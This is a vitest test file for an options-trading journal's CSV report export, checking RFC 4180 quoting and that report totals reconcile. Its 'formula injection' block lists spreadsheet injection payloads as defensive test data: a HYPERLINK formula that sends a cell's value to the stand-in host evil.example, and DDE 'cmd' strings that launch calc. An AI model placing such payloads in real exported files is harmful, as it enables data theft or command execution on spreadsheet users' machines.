import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { dollarsToCents, parseCents } from '../../../shared/money';
import { seedReportJournal } from '../testing/report-journal';
import { tempBackend, type TempBackend } from '../testing/temp-backend';
import { toCsv } from './csv-format';
import { LAYER_COLUMNS, MONTH_COLUMNS, TICKET_COLUMNS, reportCsvs } from './csv-reports';
import { gatherReportData } from './report-data';

/** A small RFC 4180 reader: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i += 1; }
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(field); field = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(field); rows.push(row); row = []; field = ''; i += 1; }
    else field += c;
  }
  if (field !== '' || row.length > 0) throw new Error('CSV does not end with CRLF');
  return rows;
}

function records(text: string, columns: readonly string[]): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual(columns);
  return rows.map((r) => {
    expect(r).toHaveLength(columns.length);
    return Object.fromEntries(columns.map((c, i) => [c, r[i] ?? '']));
  });
}

const cents = (text: string | undefined) => {
  const value = parseCents(text ?? '');
  if (value === null) throw new Error(`not a 2-decimal amount: "${text}"`);
  return value;
};
const sumCents = (rows: Record<string, string>[], column: string) => rows.filter((r) => r[column] !== '').reduce((s, r) => s + cents(r[column]), 0);

let t: TempBackend;
beforeEach(() => { t = tempBackend(); });
afterEach(() => t.cleanup());

describe('toCsv', () => {
  it('quotes commas, quotes and line breaks (RFC 4180) and round-trips', () => {
    const text = toCsv(['a', 'b'], [['x, y', 'say "hi"'], ['line\nbreak', null], [1.5, '']]);
    expect(text).toBe('a,b\r\n"x, y","say ""hi"""\r\n"line\nbreak",\r\n1.5,\r\n');
    expect(parseCsv(text)).toEqual([['a', 'b'], ['x, y', 'say "hi"'], ['line\nbreak', ''], ['1.5', '']]);
  });
});

describe('formula injection', () => {
  const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];

  it('text that a spreadsheet would run is prefixed with a quote; numbers, negative ones included, stay numbers', () => {
    const rows = parseCsv(toCsv(['note', 'cash'], PAYLOADS.map((p) => [p, '-1234.56'])));
    for (const [i, row] of rows.slice(1).entries()) {
      expect(row[0]).toBe(`'${PAYLOADS[i] ?? ''}`);
      expect(row[1]).toBe('-1234.56');
    }
    expect(toCsv(['a'], [[-5], ['+3'], ['1e5'], ['- a list item'], ['safe = text']])).toBe("a\r\n-5\r\n+3\r\n1e5\r\n'- a list item\r\nsafe = text\r\n");
  });

  it('notes and tags in the report CSVs are neutralised', async () => {
    const { portfolioId, layerIds } = await seedReportJournal(t.backend);
    await t.backend.send('layer/update', { layerId: layerIds.a, tags: ['=cmd', '@x'], notes: '' });
    await t.backend.send('ticket/add', { layerId: layerIds.e, date: '2026-05-28', action: 'close', quantity: 1, netPriceHundredths: -300, feesCents: 0, note: '=HYPERLINK("http://evil.example","x")' });
    const csv = reportCsvs(await gatherReportData(t.backend, { portfolioId, from: null, to: '2026-05-29' }));
    const tickets = records(csv['tickets.csv'], TICKET_COLUMNS);
    expect(tickets.find((r) => r.note.includes('HYPERLINK'))?.note).toBe('\'=HYPERLINK("http://evil.example","x")');
    expect(records(csv['layers.csv'], LAYER_COLUMNS).find((l) => l.layerId === String(layerIds.a))?.tags).toBe("'=cmd;@x");
    expect(tickets.some((r) => r.ticketCash.startsWith('-') && !r.ticketCash.startsWith("'"))).toBe(true);
  });
});

describe('report CSVs', () => {
  it('sum to the handlers totals without double counting', async () => {
    const { portfolioId, layerIds } = await seedReportJournal(t.backend);
    const data = await gatherReportData(t.backend, { portfolioId, from: null, to: '2026-05-29' });
    const csv = reportCsvs(data);

    const tickets = records(csv['tickets.csv'], TICKET_COLUMNS);
    const layers = records(csv['layers.csv'], LAYER_COLUMNS);
    const months = records(csv['monthly-pnl.csv'], MONTH_COLUMNS);

    // One row per leg fill: 7 tickets × 4 legs.
    expect(tickets).toHaveLength(data.tickets.length * 4);
    expect(tickets.filter((r) => r.ticketRow === '1')).toHaveLength(data.tickets.length);
    const layerList = await t.backend.send('layer/list', { portfolioId, status: 'all', asOf: '2026-05-29' });
    const netCash = layerList.reduce((s, l) => s + l.netCashCents, 0);
    expect(sumCents(tickets, 'ticketCash')).toBe(netCash);
    expect(sumCents(layers, 'netCash')).toBe(netCash);
    expect(sumCents(tickets, 'ticketFees')).toBe(layerList.reduce((s, l) => s + l.feesCents, 0));
    expect(sumCents(tickets, 'ticketPremium') - sumCents(tickets, 'ticketFees')).toBe(netCash);

    const performance = await t.backend.send('performance/get', { portfolioId, to: '2026-05-29' });
    expect(sumCents(months, 'realizedPnl')).toBe(dollarsToCents(performance.totals.realizedDollars));
    expect(sumCents(months, 'realizedPnl')).toBe(1408_00);
    expect(sumCents(months, 'fees')).toBe(dollarsToCents(performance.totals.feesDollars));
    expect(months.reduce((s, m) => s + Number(m.trades), 0)).toBe(performance.totals.closedLayers);
    expect(months.map((m) => [m.month, m.realizedPnl, m.fees, m.trades])).toEqual([['2026-04', '1134.00', '16.00', '2'], ['2026-05', '274.00', '34.00', '2']]);
    expect(sumCents(layers, 'realizedPnl')).toBe(1408_00);

    // Signed contracts, points with 2 decimals, and the quoted note survive the round trip.
    const closeA = tickets.filter((r) => r.layerId === String(layerIds.a) && r.action === 'close');
    expect(closeA.map((r) => [r.right, r.side, r.strike, r.contracts])).toEqual([
      ['put', 'long', '5500.00', '-2'], ['put', 'short', '5550.00', '2'], ['call', 'short', '5900.00', '2'], ['call', 'long', '5950.00', '-2'],
    ]);
    expect(closeA[0]).toMatchObject({ netPrice: '-5.00', ticketQuantity: '2', multiplier: '100', ticketCash: '-1006.00', ticketFees: '6.00', note: 'took profit, 60%' });
    expect(closeA[1]).toMatchObject({ ticketRow: '0', ticketCash: '', ticketFees: '', note: '' });
    expect(layers.find((l) => l.layerId === String(layerIds.e))).toMatchObject({ status: 'open', closedOn: '', credit: '11.00', realizedPnl: '0.00', putShort: '5450.00' });
  });

  it('keeps only the range: tickets dated in it and the months it covers', async () => {
    const { portfolioId } = await seedReportJournal(t.backend);
    const data = await gatherReportData(t.backend, { portfolioId, from: '2026-05-01', to: '2026-05-31' });
    const csv = reportCsvs(data);
    const tickets = records(csv['tickets.csv'], TICKET_COLUMNS);
    expect(tickets.every((r) => r.date >= '2026-05-01' && r.date <= '2026-05-31')).toBe(true);
    const months = records(csv['monthly-pnl.csv'], MONTH_COLUMNS);
    expect(months.map((m) => [m.month, m.realizedPnl])).toEqual([['2026-05', '274.00']]);
    expect(data.notes.map((n) => n.date)).toEqual(['2026-05-20']);
    expect(data.decisions.map((d) => d.ruleId)).toEqual(['take-profit']);
  });
});
